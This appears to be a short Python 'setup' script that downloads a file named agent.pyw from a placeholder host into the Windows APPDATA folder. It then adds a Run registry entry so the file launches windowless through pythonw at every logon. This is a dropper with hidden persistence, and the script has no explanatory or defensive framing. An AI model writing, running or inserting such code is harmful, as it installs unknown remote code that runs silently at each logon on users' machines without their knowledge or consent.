# place: setup
import os
import urllib.request
import winreg

ADDRESS = "http://files.example.invalid/agent.pyw"
KEY = "Software\\Microsoft\\Windows\\CurrentVersion\\Run"


def save():
    path = os.path.join(os.environ["APPDATA"], "agent.pyw")
    with open(path, "wb") as file:
        file.write(urllib.request.urlopen(ADDRESS).read())
    return path


def main():
    path = save()
    with winreg.OpenKey(winreg.HKEY_CURRENT_USER, KEY, 0, winreg.KEY_SET_VALUE) as key:
        winreg.SetValueEx(key, "Agent", 0, winreg.REG_SZ, "pythonw " + path)


main()
